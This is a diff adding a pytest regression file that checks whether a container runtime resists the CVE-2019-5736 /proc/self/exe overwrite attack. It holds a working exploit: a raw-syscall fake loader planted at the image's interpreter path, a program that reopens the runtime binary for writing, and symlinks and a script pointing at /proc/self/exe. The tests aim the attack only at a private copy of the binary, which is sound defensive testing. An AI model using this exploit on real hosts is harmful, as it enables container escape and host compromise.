@@ -1,0 +1,195 @@
+# SPDX-License-Identifier: LGPL-2.1-or-later
+"""The runtime binary cannot be reached for writing from inside a container
+(the CVE-2019-5736 pattern).
+
+A process that the runtime turns into the container process is, until its
+final execve, an instance of the runtime's binary: its /proc/self/exe is the
+host file.  If the container's executable is a link to /proc/self/exe (or a
+script whose interpreter is), the kernel executes the runtime binary again,
+and -- the binary being dynamic -- runs the loader named by its PT_INTERP,
+resolved in the container's rootfs, which the image controls.  Our "loader"
+(a raw-syscall static program) opens /proc/self/exe read-only, then execs a
+second program that re-opens that fd for writing once the runtime binary no
+longer runs in the process (no ETXTBSY).
+
+The runtime under test is a private copy of the binary, so a successful
+attack damages only the copy; the tests assert the copy and the real binary
+keep their hashes and that the write-open failed (or reached something that
+is not the host file, e.g. a sealed memfd copy).
+"""
+import errno
+import os
+import shutil
+
+import pytest
+
+import celltest
+import hostwatch
+from payload import compile_into, parse_report
+
+LOADER = "/lib64/ld-linux-x86-64.so.2"   # the PT_INTERP of a Debian x86-64 binary
+MARK = "CELLTEST-EXE-OVERWRITE"
+
+# A dynamic loader shipped by the image: no libc (it runs with the runtime
+# binary's auxv), raw syscalls only.
+FAKE_LOADER = r"""
+static long sc(long n, long a, long b, long c)
+{
+	long r;
+	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
+	return r;
+}
+
+static unsigned long slen(const char *s)
+{
+	unsigned long n = 0;
+	while (s[n])
+		n++;
+	return n;
+}
+
+static void say(const char *s)
+{
+	sc(SYS_write, 1, (long)s, (long)slen(s));
+}
+
+static char *fmt_long(char *end, long v)
+{
+	unsigned long u = v < 0 ? -(unsigned long)v : (unsigned long)v;
+	*--end = '\0';
+	do
+		*--end = (char)('0' + u % 10);
+	while (u /= 10);
+	if (v < 0)
+		*--end = '-';
+	return end;
+}
+
+static void say_num(const char *key, long v)
+{
+	char buf[32];
+	say(key);
+	say(" ");
+	say(fmt_long(buf + sizeof(buf), v));
+	say("\n");
+}
+
+void loader_main(long *sp)
+{
+	long argc = sp[0];
+	char **envp = (char **)(sp + 1 + argc + 1);
+	char buf[32], link[512];
+	long fd = sc(SYS_open, (long)"/proc/self/exe", O_RDONLY, 0);
+
+	say_num("exe_open", fd);
+	say_num("exe_write_running", sc(SYS_open, (long)"/proc/self/exe", O_WRONLY, 0));
+	if (fd >= 0) {
+		char *arg = fmt_long(buf + sizeof(buf), fd);
+		char path[48] = "/proc/self/fd/";
+		for (int i = 0; arg[i]; i++)
+			path[14 + i] = arg[i], path[15 + i] = '\0';
+		long n = sc(SYS_readlink, (long)path, (long)link, sizeof(link) - 1);
+		link[n > 0 ? n : 0] = '\0';
+		say("exe_link ");
+		say(link);
+		say("\n");
+		char *argv[] = { "exe-overwrite", arg, 0 };
+		sc(SYS_execve, (long)"/usr/local/bin/exe-overwrite", (long)argv, (long)envp);
+		say("exec_overwrite failed\n");
+	}
+	sc(SYS_exit_group, 99, 0, 0);
+}
+
+__asm__(".globl _start\n_start:\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall loader_main\n\thlt\n");
+"""
+
+OVERWRITE = r"""
+int main(int argc, char **argv)
+{
+	int fd = argc > 1 ? atoi(argv[1]) : -1;
+	char path[64];
+	struct stat st;
+
+	if (fstat(fd, &st) == 0)
+		report("exe_ino", "%lu:%lu", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	int w = open(path, O_WRONLY | O_APPEND);
+	if (outcome("exe_reopen_write", w) == 0)
+		outcome("exe_append", write(w, "MARK", 4));
+	return 0;
+}
+""".replace('"MARK", 4', f'"{MARK}", {len(MARK)}')
+
+
+def errname(value):
+    """"-26" -> "ETXTBSY"; a non-negative result -> "ok"."""
+    v = int(value)
+    return "ok" if v >= 0 else errno.errorcode.get(-v, str(v))
+
+
+@pytest.fixture
+def runtime_copy(session, runtime, tmp_path_factory):
+    """A Runtime driving a private copy of the binary (the attack's target)."""
+    d = os.path.join(session.base, f"exe-{session.new_id()}")
+    os.makedirs(d)
+    exe = os.path.join(d, "cellrun")
+    shutil.copy2(os.path.realpath(session.binary), exe)
+    rt = celltest.Runtime(session)
+    rt.binary = exe
+    yield rt
+    rt.cleanup()
+    runtime.ids.extend(rt.ids)   # and again through the real binary on teardown
+    shutil.rmtree(d, ignore_errors=True)
+
+
+def hostile_rootfs(bundle):
+    """Private rootfs with the fake loader, the overwriter and /bin/evil links."""
+    rootfs = bundle.private_rootfs()
+    compile_into(rootfs, "exe-overwrite", OVERWRITE)
+    built = compile_into(rootfs, "fake-ld", FAKE_LOADER,
+                         flags=["-nostdlib", "-fno-stack-protector", "-fno-builtin"])
+    dest = os.path.join(rootfs, LOADER.lstrip("/"))
+    os.makedirs(os.path.dirname(dest), exist_ok=True)
+    os.replace(os.path.join(rootfs, built.lstrip("/")), dest)
+    os.symlink("/proc/self/exe", os.path.join(rootfs, "bin/evil"))
+    with open(os.path.join(rootfs, "bin/evil-script"), "w") as f:
+        f.write("#!/proc/self/exe\n")
+    os.chmod(os.path.join(rootfs, "bin/evil-script"), 0o755)
+    return rootfs
+
+
+def assert_not_overwritten(session, rt, before, report, r):
+    exe = rt.binary
+    assert hostwatch.sha256(exe) == before[exe], f"runtime binary modified!\n{r}"
+    assert hostwatch.sha256(session.binary) == before[session.binary]
+    with open(exe, "rb") as f:
+        assert MARK.encode() not in f.read()
+    if report.get("exe_reopen_write") == "ok":
+        st = os.stat(exe)
+        assert report.get("exe_ino") != f"{st.st_dev}:{st.st_ino}", \
+            f"the container reopened the host runtime binary for writing\n{r}"
+
+
+def hashes(session, rt):
+    return {p: hostwatch.sha256(p) for p in (rt.binary, session.binary)}
+
+
+def test_entrypoint_is_proc_self_exe(session, runtime_copy, bundle):
+    """process.args[0] is a symlink to /proc/self/exe."""
+    hostile_rootfs(bundle)
+    before = hashes(session, runtime_copy)
+    bundle.args("/bin/evil")
+    r = runtime_copy.run(bundle, timeout=20)
+    report = parse_report(r.out)
+    assert_not_overwritten(session, runtime_copy, before, report, r)
+
+
+def test_exec_script_interpreter_is_proc_self_exe(session, runtime_copy, bundle):
+    """`exec` of a script whose #! line names /proc/self/exe."""
+    hostile_rootfs(bundle)
+    before = hashes(session, runtime_copy)
+    bundle.args("sleep", "30")
+    runtime_copy.run(bundle, detach=True, timeout=20).ok()
+    r = runtime_copy.exec(bundle.id, "/bin/evil-script", timeout=20)
+    report = parse_report(r.out)
+    assert_not_overwritten(session, runtime_copy, before, report, r)
